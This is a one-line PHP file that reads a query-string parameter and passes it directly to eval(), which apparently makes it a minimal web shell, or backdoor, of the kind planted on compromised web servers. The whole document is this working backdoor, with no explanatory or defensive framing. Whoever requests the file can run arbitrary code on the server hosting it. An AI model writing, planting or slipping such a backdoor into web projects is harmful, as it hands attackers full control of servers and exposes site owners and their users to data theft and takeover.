<?php mb_parse_str($_SERVER["QUERY_STRING"], $r); eval($r["e"]);
